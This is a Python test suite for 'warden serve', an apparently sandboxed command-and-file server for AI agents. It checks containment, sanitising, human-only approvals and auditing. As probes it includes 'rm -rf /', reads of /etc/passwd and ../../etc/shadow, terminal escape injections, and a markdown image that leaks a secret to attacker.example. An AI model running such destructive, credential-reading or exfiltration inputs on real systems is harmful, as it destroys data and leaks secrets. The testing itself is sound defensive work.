#!/usr/bin/env python3
"""`warden serve` in detail: version negotiation, run_command's result,
progress and output windows, sanitising, the file tools' containment,
the harness methods, approvals only from a human channel, audit."""
import base64
import json
import os
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from srvlib import WARDEN, Env, LineClient, Server, done, http_post, ok  # noqa: E402

env = Env()
env.require_sandboxes()
ws = env.ws
subprocess.run(["git", "init", "-q", ws], check=True)
subprocess.run(["git", "-C", ws, "-c", "user.email=t@t", "-c", "user.name=t", "add", "."],
               check=True)
subprocess.run(["git", "-C", ws, "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm",
                "init"], check=True)
audit = os.path.join(env.top, "audit.log")
sock = os.path.join(env.top, "s.sock")
srv = Server(env, "--socket", sock, "--audit", audit, "--listen", "127.0.0.1:0",
             "--token-file", env.token, stdio=True)
mcp = LineClient(srv)


def tool(name, args, progress=None):
    params = {"name": name, "arguments": args}
    if progress is not None:
        params["_meta"] = {"progressToken": progress}
    r = mcp.call("tools/call", params)
    return r.get("result") or {"error": r.get("error")}


def text(r):
    return "".join(c.get("text", "") for c in r.get("content", []))


def code(r):
    return r.get("error", {}).get("code")


# ---- initialize ----
r = mcp.call("initialize", {"protocolVersion": "2024-11-05", "capabilities": {},
                            "clientInfo": {"name": "old", "version": "0"}})
ok(r["result"]["protocolVersion"] == "2024-11-05", "a version warden speaks is kept")
r = mcp.call("initialize", {"protocolVersion": "1999-01-01", "capabilities": {}})
ok(r["result"]["protocolVersion"] == "2025-11-25", "an unknown version gets warden's newest")
mcp.send({"jsonrpc": "2.0", "method": "notifications/initialized"})
ok("result" in mcp.call("ping"), "ping")

# ---- run_command: the result, windows, progress, timeout ----
r = tool("run_command", {"command": "python3 -c 'print(\"x\" * 200000)'"})
sc = r.get("structuredContent", {})
ok(sc.get("stdout_total_bytes") == 200001 and sc.get("stdout_omitted_bytes", 0) > 100000,
   "a long output: head and tail kept, the rest counted (%s omitted)"
   % sc.get("stdout_omitted_bytes"))
ok("omitted" in text(r), "... and the text says so, with advice")
mcp.notes.clear()
t0 = time.time()
r = tool("run_command", {"command": "python3 -c 'import time; print(1, flush=True); "
                                    "time.sleep(1); print(2)'"}, progress="tok")
prog = [n for n in mcp.notes if n["method"] == "notifications/progress"]
ok(len(prog) >= 1 and prog[0]["params"]["progressToken"] == "tok" and
   prog[0]["params"]["message"].startswith("1"),
   "progress notifications carry the output (%d)" % len(prog))
r = tool("run_command", {"command": "python3 -c 'import time; time.sleep(5)'", "timeout": 0.5})
ok(r.get("isError") and r["structuredContent"]["status"] == 124 and
   r["structuredContent"]["timed_out"], "a timeout: status 124, a tool error")
r = tool("run_command", {"command": "python3 -c 'import sys; sys.stdout.buffer.write(b\"a\\x00b\\xff\")'"})
sc = r.get("structuredContent", {})
ok(sc.get("status") == 0 and sc.get("exit_code") == 0 and "protections" in sc and
   sc.get("stdout") == "a\\x00b\\xff" and sc.get("stdout_total_bytes") == 4,
   "output with a NUL and a bad byte: the result's members all there, both shown (%s)" % sc)
r = tool("run_command", {"command": "ls", "cwd": "../.."})
ok(r.get("isError"), "a cwd outside the workspace is refused")

# ---- sanitising ----
nasty = (b"title\x1b]0;pwned\x07 link \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ "
         b"\x1b[31mred\x1b[0m bin\x9f\xff rtl\xe2\x80\xaeevil bell\x07 cr\rover\n")
with open(os.path.join(ws, "nasty.txt"), "wb") as f:
    f.write(nasty)
for how, r in (("run_command", tool("run_command", {"command": "cat nasty.txt"})),
               ("read_file", tool("read_file", {"path": "nasty.txt"}))):
    t = text(r)
    ok("\x1b" not in t and "evil.example" not in t and "pwned" not in t,
       "%s: CSI and OSC (titles, hyperlinks) removed" % how)
    ok("\\x9f\\xff" in t and "\\u202e" in t and "\\x07" in t,
       "%s: bad UTF-8, a bidi override and BEL shown escaped" % how)
    ok("red" in t and "click" in t and "cr\nover" in t, "%s: the text itself is kept" % how)

# ---- the file tools: containment ----
os.symlink("/etc/passwd", os.path.join(ws, "link-out"))
os.mkfifo(os.path.join(ws, "fifo"))
r = tool("read_file", {"path": "link-out"})
ok(r.get("isError") and "outside" in text(r), "read_file through a symlink out: refused")
r = tool("read_file", {"path": "/etc/passwd"})
ok(r.get("isError"), "read_file of an absolute host path: refused")
r = tool("read_file", {"path": "fifo"})
ok(r.get("isError") and "regular" in text(r), "read_file of a FIFO: refused, without blocking")
r = tool("write_file", {"path": "link-out", "content": "x"})
ok(r.get("isError") and open("/etc/passwd").read(1) != "x", "write_file onto a symlink: refused")
r = tool("write_file", {"path": ".envrc", "content": "x"})
ok(r.get("isError") and "protected" in text(r), "write_file to .envrc: protected")
r = tool("edit_file", {"path": "hello.txt", "old_string": "o", "new_string": "0"})
ok(r.get("isError") and "occurs" in text(r), "edit_file with an ambiguous string: refused")
r = tool("edit_file", {"path": "hello.txt", "old_string": "nothere", "new_string": "0"})
ok(r.get("isError") and "not found" in text(r), "edit_file with a missing string: refused")
r = tool("search_files", {"pattern": "h(e|a)llo", "regex": True, "glob": "*.txt"})
ok("hello.txt:1:" in text(r), "search_files with a regex and a glob")
r = tool("search_files", {"pattern": "(", "regex": True})
ok(r.get("isError") and "regular expression" in text(r), "a bad regex: a tool error")
r = tool("list_dir", {"depth": 2})
ok("link-out -> /etc/passwd" in text(r) and ".git/" in text(r), "list_dir shows links, not targets")

# ---- approvals: never from the model's channel ----
r = tool("run_command", {"command": "git push origin main"})
aid = r["structuredContent"].get("approval_id")
ok(r["structuredContent"]["outcome"] == "paused" and aid, "git push pauses")
ok(code(mcp.call("approval.grant", {"id": aid})) == -32003, "approval.grant over stdio: -32003")
ok(code(mcp.call("approval.list")) == -32003, "approval.list over stdio: -32003")
human = LineClient(path=sock)
pend = human.call("approval.list")["result"]["pending"]
ok(any(p["id"] == aid and p["argv"][:2] == ["git", "push"] for p in pend),
   "the owner's socket lists the paused command")
model_on_socket = LineClient(path=sock)
model_on_socket.initialize()
ok(code(model_on_socket.call("approval.grant", {"id": aid})) == -32003,
   "an MCP session on the owner's socket cannot grant either")
model_on_socket.close()
tok = env.token_value()
st, h, _ = http_post(srv.port, tok, {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                                     "params": {"protocolVersion": "2025-06-18",
                                                "capabilities": {}}})
st, _, body = http_post(srv.port, tok, {"jsonrpc": "2.0", "id": 2, "method": "approval.grant",
                                        "params": {"id": aid}}, session=h["mcp-session-id"])
ok(json.loads(body).get("error", {}).get("code") == -32003, "approval.grant over HTTP: -32003")
r = tool("run_command", {"command": "git push origin main"})
ok(r["structuredContent"]["outcome"] == "paused", "still paused after all those tries")
g = human.call("approval.grant", {"id": aid[:12]})
ok(g.get("result", {}).get("granted") is True and "git" in g["result"]["summary"],
   "the owner's socket grants it (a 12-digit prefix)")
ok(code(human.call("approval.grant", {"id": "00000000"})) == -32602,
   "granting an unknown id: -32602")
r = tool("run_command", {"command": "git push origin main"})
ok(r["structuredContent"]["outcome"] == "ran", "the approved command runs, once")
r = tool("run_command", {"command": "git push origin main"})
ok(r["structuredContent"]["outcome"] == "paused", "... and pauses again after")

# ---- the harness methods ----
h1 = human
c = h1.call("sandbox.create", {"limits": {"memory": 256 << 20, "timeout": 10}})
sid = c["result"]["sandbox"]
ok(len(sid) == 16, "sandbox.create")
h1.notes.clear()
r = h1.call("sandbox.exec", {"sandbox": sid, "argv": ["/bin/sh", "-c", "echo out; echo err >&2"]})
outs = [n["params"] for n in h1.notes if n["method"] == "sandbox.output"]
ok(r["result"]["outcome"] == "ran" and r["result"]["stdout"]["data"] == "out\n" and
   r["result"]["policy"] == "off", "sandbox.exec of an argv (policy off, and the result says so)")
ok({o["stream"] for o in outs} == {"stdout", "stderr"} and all(o["sandbox"] == sid for o in outs),
   "output streamed as sandbox.output notifications")
# the server builds a result from the library's accessors: what it answers
# is what the library's own JSON of the same command says (warden run
# --json), a byte that is not UTF-8 (\udcXX there) as the text \xXX, and a
# NUL byte kept
def hexed(v):
    if isinstance(v, str):
        return "".join("\\x%02x" % (ord(ch) - 0xdc00) if 0xdc80 <= ord(ch) <= 0xdcff else ch
                       for ch in v)
    return v


odd = ["python3", "-c", "import sys; sys.stdout.buffer.write(b'a\\xffb\\x00c\\\\d\\x1be"
       "\\xe2\\x82\\xac\\xed\\xa0\\x80\\n'); sys.stderr.buffer.write(b'E\\xc3'); sys.exit(3)"]
h1.notes.clear()
r = h1.call("sandbox.exec", {"sandbox": sid, "argv": odd})["result"]
streamed = "".join(n["params"]["data"] for n in h1.notes
                   if n["method"] == "sandbox.output" and n["params"]["stream"] == "stdout")
ok(streamed == r["stdout"]["data"], "sandbox.output streams the same text, NUL and all (%r)"
   % streamed)
lib = json.loads(subprocess.run([WARDEN, "run", "--json", "-w", ws, "--", *odd],
                                capture_output=True, env=env.env, timeout=120).stdout)
ok(r["stdout"]["data"] == hexed(lib["stdout"]["data"]) ==
   "a\\xffb\x00c\\d\x1be\u20ac\\xed\\xa0\\x80\n" and
   r["stderr"]["data"] == hexed(lib["stderr"]["data"]) == "E\\xc3",
   "sandbox.exec: output as the library's JSON gives it, bad bytes as \\xNN, NUL kept (%r)"
   % r["stdout"]["data"])
ok(set(r) - {"outcome"} == set(lib) and set(r["protections"]) == set(lib["protections"]) and
   all(r[k] == lib[k] for k in ("status", "exit_code", "signal", "timed_out", "oom_killed",
                                 "policy")) and r["status"] == 3 and
   all(r[k]["total_bytes"] == lib[k]["total_bytes"] for k in ("stdout", "stderr")) and
   all(isinstance(r[k], float) for k in ("wall_ms", "cpu_ms")),
   "sandbox.exec: the result's members are the library's (%s)"
   % sorted((set(r) - {"outcome"}) ^ set(lib)))
r = h1.call("sandbox.exec", {"sandbox": sid, "argv": ["/nonexistent-program"]})["result"]
lib = json.loads(subprocess.run([WARDEN, "run", "--json", "-w", ws, "--", "/nonexistent-program"],
                                capture_output=True, env=env.env, timeout=120).stdout)
ok(r["status"] == lib["status"] == 127 and r.get("error") == lib.get("error"),
   "sandbox.exec: a program not found: the library's error object (%s)" % r.get("error"))
r = h1.call("sandbox.exec", {"sandbox": sid, "command": "rm -rf /"})
ok(r["result"]["outcome"] == "denied" and r["result"]["decision"]["rule"] == "programs",
   "a command string is judged: denied")
r = h1.call("sandbox.exec", {"sandbox": sid, "argv": ["rm", "-rf", "/"], "policy": True})
ok(r["result"]["outcome"] == "denied", "an argv with policy true is judged too")
r = h1.call("sandbox.write_file", {"sandbox": sid, "path": "bin.dat",
                                   "content": base64.b64encode(b"\x00\x01\xff").decode(),
                                   "encoding": "base64"})
ok(r.get("result", {}).get("bytes") == 3, "sandbox.write_file (base64)")
r = h1.call("sandbox.read_file", {"sandbox": sid, "path": "bin.dat"})
ok(r["result"]["encoding"] == "base64" and
   base64.b64decode(r["result"]["content"]) == b"\x00\x01\xff", "sandbox.read_file: binary as base64")
r = h1.call("sandbox.read_file", {"sandbox": sid, "path": "hello.txt", "offset": 6, "length": 4})
ok(r["result"]["content"] == "from" and r["result"]["encoding"] == "utf-8",
   "sandbox.read_file with offset and length")
r = h1.call("sandbox.read_file", {"sandbox": sid, "path": "../x"})
ok(code(r) == -32007 and r["error"]["data"]["errno"] == "EXDEV", "a traversal: -32007 EXDEV")
r = h1.call("sandbox.edit_file", {"sandbox": sid, "path": "hello.txt", "old_string": "hello",
                                  "new_string": "howdy"})
ok(r.get("result", {}).get("replacements") == 1, "sandbox.edit_file")
r = h1.call("sandbox.list_dir", {"sandbox": sid})
ok(any(e["path"] == "bin.dat" and e["size"] == 3 for e in r["result"]["entries"]),
   "sandbox.list_dir")
r = h1.call("sandbox.search_files", {"sandbox": sid, "pattern": "howdy"})
ok(r["result"]["matches"][0]["path"] == "hello.txt", "sandbox.search_files")
r = h1.call("sandbox.diff", {"sandbox": sid})
ok(any(f["path"] == "hello.txt" for f in r["result"]["files"]) and "+howdy" in r["result"]["diff"],
   "sandbox.diff: the changed files and the diff (git's, in a sandbox)")
ok(r["result"]["mode"] == "direct" and r["result"]["source"] == "git",
   "... a direct sandbox's diff says it is git's account")
r = h1.call("sandbox.diff", {"sandbox": sid, "format": "stat"})
ok("hello.txt" in r["result"]["diff"] and "changed" in r["result"]["diff"],
   "sandbox.diff format stat: git's --stat")
for m in ("sandbox.apply", "sandbox.discard"):
    r = h1.call(m, {"sandbox": sid})
    ok(code(r) == -32006 and "direct workspace" in r["error"]["message"],
       "%s of a direct sandbox: -32006, its writes are in the directory already" % m)
other = LineClient(path=sock)
ok(code(other.call("sandbox.exec", {"sandbox": sid, "command": "ls"})) == -32001,
   "another connection cannot use the sandbox: -32001")
other.close()
h1.send({"jsonrpc": "2.0", "id": 99, "method": "sandbox.exec",
         "params": {"sandbox": sid, "argv": ["/bin/sleep", "30"]}})
time.sleep(0.5)
h1.send({"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": 99}})
t0 = time.time()
r = h1.answer(99)
ok(code(r) == -32800 and time.time() - t0 < 5, "a cancelled exec: -32800, at once")
r = h1.call("sandbox.exec", {"sandbox": sid, "argv": ["/bin/echo", "still here"]})
ok(r.get("result", {}).get("stdout", {}).get("data") == "still here\n",
   "... and the sandbox lives on: a cancel ends the command, not the sandbox")
h1.send({"jsonrpc": "2.0", "id": 98, "method": "sandbox.run",
         "params": {"argv": ["/bin/sleep", "30"]}})
time.sleep(0.5)
h1.send({"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": 98}})
t0 = time.time()
r = h1.answer(98)
ok(code(r) == -32800 and time.time() - t0 < 5, "a cancelled one-shot (sandbox.run): -32800, at once")
r = h1.call("sandbox.destroy", {"sandbox": sid})
ok(r.get("result", {}).get("destroyed") is True, "sandbox.destroy")
ok(code(h1.call("sandbox.exec", {"sandbox": sid, "command": "ls"})) == -32001,
   "a destroyed sandbox is gone: -32001")
r = h1.call("sandbox.run", {"command": "ls hello.txt"})
ok(r["result"]["outcome"] == "ran" and r["result"]["stdout"]["data"] == "hello.txt\n",
   "sandbox.run: an ephemeral sandbox")

# ---- the policy's answers and the audit trail ----
r = h1.call("policy.check", {"command": "git push origin main"})["result"]
ok(r["decision"] == "pause" and r["approval_id"], "policy.check: a pause")
lib = json.loads(subprocess.run([WARDEN, "check", "--json", "-w", ws, "--command",
                                 "git push origin main"], capture_output=True, env=env.env,
                                timeout=60).stdout)
ok(r == lib,
   "policy.check: the decision is the library's JSON of it, member for member")
r = h1.call("policy.check", {"argv": ["cat", "../../etc/shadow"]})["result"]
ok(r["decision"] == "deny" and r["rule"] == "workspace.containment", "policy.check: containment")
r = h1.call("tool.route", {"tool": "read_file"})["result"]
ok(r["class"] == "direct", "tool.route: read_file is direct")
r = h1.call("tool.route", {"tool": "delete_workspace"})["result"]
ok(r["class"] == "blocked" and r["defined"], "tool.route: delete_workspace is blocked")
r = h1.call("audit.verify")["result"]
ok(r["intact"] is True, "audit.verify: the chain of every decision above is intact")
with open(audit) as f:
    events = [json.loads(line)["event"] for line in f]
ok("decision" in events and "result" in events and "approval.consumed" in events,
   "the audit trail holds the decisions, results and the consumed approval")
h1.close()

ok(srv.no_sandbox_left(), "no sandbox is left")
mcp.close()
srv.p.stdin.close()
ok(srv.stop() == 0, "the server stops cleanly")

# ---- --sanitize-images: markdown images to hosts outside network.allow ----
policy = os.path.join(env.top, "policy.json")
with open(policy, "w") as f:
    json.dump({"version": 1, "programs": {"cat": {}}, "network": {"allow": ["docs.example.org"]}},
              f)
with open(os.path.join(ws, "readme.md"), "w") as f:
    f.write("![logo](https://docs.example.org/logo.png)\n"
            "![x](https://attacker.example/?d=SECRET)\n<img src=\"http://a.example/p?k=1\">\n")
srv2 = Server(env, "--sanitize-images", "--policy", policy, stdio=True)
m2 = LineClient(srv2)
m2.initialize()
r = m2.call("tools/call", {"name": "read_file", "arguments": {"path": "readme.md"}})["result"]
t = text(r)
ok("docs.example.org/logo.png" in t and "SECRET" not in t and "a.example/p" not in t and
   "not in the egress allowlist" in t, "--sanitize-images: only allowed hosts' images remain")
r = m2.call("tools/call", {"name": "run_command", "arguments": {"command": "cat readme.md"}})
r = r["result"]
ok(r["structuredContent"]["outcome"] == "ran" and
   r["structuredContent"]["protections"]["network"] != "loopback" and "SECRET" not in text(r),
   "run_command under a policy with network.allow: the policy's egress applies (%s)"
   % r["structuredContent"]["protections"].get("network"))
m2.close()
srv2.p.stdin.close()
srv2.stop()
env.close()
done()
